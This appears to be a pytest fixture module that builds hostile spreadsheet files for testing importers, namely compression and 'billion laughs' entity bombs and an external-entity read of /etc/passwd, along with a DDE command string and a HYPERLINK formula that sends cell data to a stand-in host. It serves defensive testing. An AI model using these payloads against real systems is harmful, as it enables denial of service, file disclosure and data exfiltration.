"""Hostile .xlsx files made in memory for the tests of every importer."""

from __future__ import annotations

import io
import re
import time
import tracemalloc
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from openpyxl import load_workbook

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
_WB_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/></Relationships>'
)


def _workbook_xml(title: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        f'<sheets><sheet name="{title}" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )


def _package(sheet_xml: bytes | str, *, title: str, prolog: str = "") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", _CONTENT_TYPES)
        z.writestr("_rels/.rels", _ROOT_RELS)
        z.writestr("xl/_rels/workbook.xml.rels", _WB_RELS)
        z.writestr(
            "xl/workbook.xml", prolog + _workbook_xml(title) if prolog else _workbook_xml(title)
        )
        z.writestr("xl/worksheets/sheet1.xml", sheet_xml)
    return out.getvalue()


def million_cells(
    *, cells: int = 3_000_000, columns: int = 3, title: str = "Sheet1", dimension: str | None = None
) -> bytes:
    """A small file of ``cells`` inline-number cells (3,000,000 by default), rows of
    ``columns`` cells, declaring ``dimension`` (none by default: nothing to trust)."""
    letters = [chr(65 + i % 26) for i in range(columns)]
    head = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + (f'<dimension ref="{dimension}"/>' if dimension else "")
        + "<sheetData>"
    )
    rows = cells // columns
    del letters  # rows and cells without coordinates: identical, so they compress to nothing
    row = "<row>" + "<c><v>1</v></c>" * columns + "</row>"
    body = io.StringIO()
    body.write(head)
    body.write(row * rows)
    body.write("</sheetData></worksheet>")
    return _package(body.getvalue().encode(), title=title)


def entity_workbook(*, laughs: bool = True, title: str = "Sheet1") -> bytes:
    """A workbook whose sheet declares XML entities ("billion laughs" by default)."""
    if laughs:
        dtd = '<!DOCTYPE worksheet [<!ENTITY lol "lol">'
        for i in range(1, 10):
            prev = f"&lol{i - 1};" if i > 1 else "&lol;"
            dtd += f'<!ENTITY lol{i} "{prev * 10}">'
        dtd += "]>"
        ref = "&lol9;"
    else:
        dtd = '<!DOCTYPE worksheet [<!ENTITY ext SYSTEM "file:///etc/passwd">]>'
        ref = "&ext;"
    sheet = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        + dtd
        + '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>{ref}</t></is></c></row>'
        "</sheetData></worksheet>"
    )
    return _package(sheet.encode(), title=title)


def one_wide_row(*, cells: int = 500_000) -> bytes:
    """One row of ``cells`` cells without coordinates (a row Excel could never make)."""
    sheet = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<dimension ref="A1:B1"/><sheetData><row r="1">'
        + "<c><v>1</v></c>" * cells
        + "</row></sheetData></worksheet>"
    )
    return _package(sheet.encode(), title="Sheet1")


def not_a_zip() -> bytes:
    return b"PK\x03\x04 this is not really a workbook" + b"\0" * 100


# --- What the importer and export tests check ------------------------------------------------

# Files no importer can read: each must be named on the page (never a 500) and save nothing.
UNREADABLE_FILES = [
    pytest.param(entity_workbook(), id="billion-laughs"),
    pytest.param(entity_workbook(laughs=False), id="external-entity"),
    pytest.param(not_a_zip(), id="not-a-zip"),
]

MIB = 1024 * 1024
MAX_SECONDS = 2.0  # a hostile upload is refused within this (wall time)
MAX_PEAK_BYTES = 50 * MIB  # ... and within this memory (tracemalloc peak)
HYPERLINK = '=HYPERLINK("http://x/?"&A1,"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"
FORMULA_ELEMENT = re.compile(rb"<(?:[A-Za-z0-9_]+:)?f[\s/>]")


def measure(call: Callable[[], Any]) -> tuple[Any, float, int]:
    """(result, wall seconds without tracemalloc, peak traced bytes of a second run)."""
    start = time.perf_counter()
    result = call()
    seconds = time.perf_counter() - start
    tracemalloc.start()
    try:
        call()
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return result, seconds, peak


def assert_no_formula(data: bytes) -> None:
    """No worksheet of the .xlsx ``data`` holds a formula, in its XML or as openpyxl reads it."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [
            n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")
        ]
        assert sheets
        for name in sheets:
            assert not FORMULA_ELEMENT.search(archive.read(name)), f"a formula in {name}"
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"


def lifted_part_limits(limits: dict[str, int]) -> dict[str, int]:
    """``SHEET_LIMITS`` with part sizes high enough that the 3M-cell sheet is streamed and
    counted rather than refused from the zip directory."""
    return {**limits, "max_part_bytes": 200 * MIB, "max_total_bytes": 400 * MIB}
